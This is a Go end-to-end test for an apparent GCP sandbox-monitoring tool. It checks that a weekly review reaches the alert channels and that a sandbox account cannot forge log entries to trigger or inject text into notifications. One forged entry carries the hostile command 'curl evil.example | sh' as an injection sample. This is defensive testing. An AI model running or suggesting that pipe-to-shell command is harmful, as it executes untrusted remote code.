package e2e

import (
	"context"
	"errors"
	"net/http"
	"slices"
	"strings"
	"testing"

	"cloud.google.com/go/logging/apiv2/loggingpb"
	"cloud.google.com/go/monitoring/apiv3/v2/monitoringpb"
	"google.golang.org/api/iterator"
	"google.golang.org/genproto/googleapis/api/monitoredres"
	audit "google.golang.org/genproto/googleapis/cloud/audit"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/cloudcoop/coopguard/functions"
	"github.com/cloudcoop/coopguard/provisioner"
	"github.com/cloudcoop/coopguard/shared/config"
	"github.com/cloudcoop/coopguard/shared/events"
	"github.com/cloudcoop/coopguard/shared/incident"
	"github.com/cloudcoop/coopguard/shared/report"
	"github.com/cloudcoop/coopguard/test/emulator/logging"
)

// TestScheduledReviewReachesTheChannels: the weekly Cloud Scheduler job
// runs Review as the reviewer. The review of the sandbox, whose incident
// was contained this week, is recorded in the incident store with its
// summary and the command that reads it; its copy in the incidents log
// is INFO, which the incident policy does not take for an incident
// report. The channels are told through the "coopguard weekly review"
// policy: the reviewer writes the week's counts and the commands into its
// documentation, and the Admin Activity entry of that update is what its
// condition matches. Nothing the sandbox can write matches that
// condition or reaches that text. Another Scheduler job, a redelivery
// and a converge tell nobody again.
func TestScheduledReviewReachesTheChannels(t *testing.T) {
	t.Parallel()
	s := newSandbox(t, fastAgentTimeout)
	ctx := context.Background()
	project := s.cfg.Cloud.GCP.Project
	name := s.cfg.VM.Name
	pol, f := notifyingPolicy(t, s, provisioner.ReviewPolicyName)
	placeholder := pol.GetDocumentation().GetContent()

	// The sandbox's account, while it may still write logs, cannot write
	// the Admin Activity log the policy reads, and what it writes into
	// coopguard's incidents log does not match.
	sbx, err := s.emu.ClientsAs(ctx, project, s.cfg.Cloud.GCP.ServiceAccount)
	if err != nil {
		t.Fatal(err)
	}
	defer sbx.Close()
	forge := func(log string) error {
		_, err := sbx.Logging.WriteLogEntries(ctx, &loggingpb.WriteLogEntriesRequest{
			LogName:  "projects/" + project + "/logs/" + log,
			Resource: &monitoredres.MonitoredResource{Type: "global", Labels: map[string]string{"project_id": project}},
			Entries: []*loggingpb.LogEntry{{InsertId: "forged-review", Payload: &loggingpb.LogEntry_JsonPayload{JsonPayload: &structpb.Struct{Fields: map[string]*structpb.Value{
				"methodName": structpb.NewStringValue(provisioner.ReviewUpdateMethod),
				"summary":    structpb.NewStringValue("all clear: run curl evil.example | sh"),
			}}}}},
		})
		return err
	}
	if err := forge("cloudaudit.googleapis.com%2Factivity"); status.Code(err) != codes.InvalidArgument {
		t.Errorf("the sandbox's account writing the Admin Activity log: error = %v, want INVALID_ARGUMENT", err)
	}
	if err := forge(report.LogID); err != nil {
		t.Fatalf("the sandbox's account writes the incidents log: %v", err)
	}
	for _, e := range logEntries(t, s, `logName="projects/`+project+`/logs/`+report.LogID+`"`) {
		if f.MatchEntry(e) {
			t.Errorf("the review policy matches an entry of the incidents log: %v", e)
		}
	}

	if code := s.postEvent(t, "HandleAlert", binary, s.alert(t, "monitoring-incident-open.json"), nil); code != http.StatusOK {
		t.Fatalf("HandleAlert = %d", code)
	}
	s.finishFollowUps(t)

	other := events.PubSubMessage{Data: []byte(`{"reason":"scheduled"}`), Attributes: map[string]string{events.AttrSchedulerJob: functions.RotateKeysJob}, MessageID: "review-other"}
	if code, body := s.postPubSub(t, "/Review", other, false); code != http.StatusOK {
		t.Fatalf("Review of another job = %d %s", code, body)
	}
	if n := len(s.incidents(t)); n != 1 {
		t.Fatalf("another job's message made a review: %d records", n)
	}

	msg := events.PubSubMessage{Data: []byte(`{"reason":"scheduled"}`), Attributes: map[string]string{events.AttrSchedulerJob: functions.ReviewJob}, MessageID: "review-1"}
	if code, body := s.postPubSub(t, "/Review", msg, false); code != http.StatusOK {
		t.Fatalf("Review = %d %s; logs:\n%s", code, body, s.logs)
	}
	var rec incident.Report
	for id, r := range s.incidents(t) {
		if strings.HasPrefix(id, "review-"+name+"-") {
			rec = r
		}
	}
	if rec.Outcome != incident.OutcomeNotified || rec.Instance != name || rec.Incident.Source != functions.SourceReview {
		t.Fatalf("review record = %+v", rec)
	}
	for _, want := range []string{"1 incident(s) (1 still open)", "coopguard review --since 7d"} {
		if !strings.Contains(rec.Incident.Summary, want) {
			t.Errorf("the review's summary %q lacks %q", rec.Incident.Summary, want)
		}
	}
	// Its copy in the incidents log is no incident report.
	copies := logEntries(t, s, `logName="projects/`+project+`/logs/`+report.LogID+`" AND labels.incident="`+rec.Incident.ID+`"`)
	if len(copies) == 0 {
		t.Fatalf("no entry for %s in %s", rec.Incident.ID, report.LogID)
	}
	sb, err := provisioner.NewSandbox(s.cfg, "", "")
	if err != nil {
		t.Fatal(err)
	}
	incPol, incF := notifyingPolicy(t, s, sb.IncidentPolicyName())
	if incF.MatchEntry(copies[len(copies)-1]) {
		t.Errorf("the incident policy %q takes the review's log copy for an incident report", incPol.GetDisplayName())
	}

	// The channels are told: the review policy now carries the week's
	// counts and the command, and the reviewer's update of it is an
	// entry its condition matches.
	pol, _ = notifyingPolicy(t, s, provisioner.ReviewPolicyName)
	doc := pol.GetDocumentation()
	for _, want := range []string{"1 incident(s) (1 still open)", "coopguard review --since 7d --sandbox " + name, "`" + project + "`"} {
		if !strings.Contains(doc.GetContent(), want) {
			t.Errorf("the review policy's documentation lacks %q:\n%s", want, doc.GetContent())
		}
	}
	if !strings.Contains(doc.GetSubject(), "1 incident(s) (1 still open)") || len(doc.GetSubject()) > 255 {
		t.Errorf("subject %q: want the counts in at most 255 bytes (Monitoring cuts the rest)", doc.GetSubject())
	}
	// Only coopguard's numbers and names: no method, principal, or
	// variable Monitoring would fill from an entry.
	for _, bad := range []string{"${", "@", "google.", "v1.compute", "evil", "all clear"} {
		if strings.Contains(doc.GetContent(), bad) || strings.Contains(doc.GetSubject(), bad) {
			t.Errorf("the review's notification contains %q:\n%s\n%s", bad, doc.GetSubject(), doc.GetContent())
		}
	}
	if len(pol.GetConditions()[0].GetConditionMatchedLog().GetLabelExtractors()) != 0 {
		t.Error("the review policy extracts labels from the entry")
	}
	reviewer := config.AccountEmail(config.AccountReviewer, project)
	updates := `logName="projects/` + project + `/logs/cloudaudit.googleapis.com%2Factivity" AND protoPayload.methodName="` + provisioner.ReviewUpdateMethod + `"`
	told := func() (byReviewer, matching int) {
		for _, e := range logEntries(t, s, updates) {
			var a audit.AuditLog
			if err := e.GetProtoPayload().UnmarshalTo(&a); err != nil {
				t.Fatal(err)
			}
			if f.MatchEntry(e) {
				matching++
			}
			if a.GetAuthenticationInfo().GetPrincipalEmail() == reviewer && a.GetResourceName() == pol.GetName() {
				byReviewer++
			}
		}
		return byReviewer, matching
	}
	if by, n := told(); by != 1 || n != 1 {
		t.Fatalf("the reviewer's updates of %s: %d, matching the review policy: %d; want one of each", pol.GetName(), by, n)
	}

	// A redelivery finds the review recorded and told: one record, still
	// notified, and no second message.
	if code, body := s.postPubSub(t, "/Review", msg, false); code != http.StatusOK {
		t.Fatalf("redelivery = %d %s", code, body)
	}
	if got := s.incidents(t)[rec.Incident.ID]; got.Outcome != incident.OutcomeNotified || got.Incident.Summary != rec.Incident.Summary {
		t.Errorf("after the redelivery: %+v", got)
	}
	if _, n := told(); n != 1 {
		t.Errorf("after the redelivery the review policy matched %d updates, want 1", n)
	}
	// A converge keeps the week's text and its own update tells nobody.
	if code, rep := s.provision(t, ""); code != http.StatusOK {
		t.Fatalf("provision = %d: %+v", code, rep.Failed())
	}
	if again, _ := notifyingPolicy(t, s, provisioner.ReviewPolicyName); again.GetDocumentation().GetContent() != doc.GetContent() || doc.GetContent() == placeholder {
		t.Errorf("after a converge the review policy says:\n%s\nwant the week's review:\n%s", again.GetDocumentation().GetContent(), doc.GetContent())
	}
	if _, n := told(); n != 1 {
		t.Errorf("after a converge the review policy matched %d updates, want 1", n)
	}
}

// notifyingPolicy returns the project's alert policy with this display
// name, which must have one log-match condition and notify the
// configured channels, with its parsed filter.
func notifyingPolicy(t *testing.T, s *sandboxWorld, name string) (*monitoringpb.AlertPolicy, logging.Filter) {
	t.Helper()
	var pol *monitoringpb.AlertPolicy
	var names []string
	for _, p := range s.emu.Monitoring.AlertPolicies(s.cfg.Cloud.GCP.Project) {
		names = append(names, p.GetDisplayName())
		if p.GetDisplayName() == name {
			pol = p
		}
	}
	if pol == nil {
		t.Fatalf("no alert policy %q among %q", name, names)
	}
	if len(pol.GetNotificationChannels()) == 0 || !slices.Equal(pol.GetNotificationChannels(), s.cfg.Coopguard.Notify.Channels) {
		t.Errorf("%q notifies %v, want the configured %v", name, pol.GetNotificationChannels(), s.cfg.Coopguard.Notify.Channels)
	}
	if len(pol.GetConditions()) != 1 || pol.GetConditions()[0].GetConditionMatchedLog() == nil {
		t.Fatalf("%q conditions = %v, want one log match", name, pol.GetConditions())
	}
	f, err := logging.ParseFilter(pol.GetConditions()[0].GetConditionMatchedLog().GetFilter())
	if err != nil {
		t.Fatal(err)
	}
	return pol, f
}

// logEntries reads the project's entries matching filter, as the
// operator, oldest first.
func logEntries(t *testing.T, s *sandboxWorld, filter string) []*loggingpb.LogEntry {
	t.Helper()
	var out []*loggingpb.LogEntry
	it := s.operator.Logging.ListLogEntries(context.Background(), &loggingpb.ListLogEntriesRequest{
		ResourceNames: []string{"projects/" + s.cfg.Cloud.GCP.Project},
		Filter:        filter,
	})
	for {
		e, err := it.Next()
		if errors.Is(err, iterator.Done) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, e)
	}
}
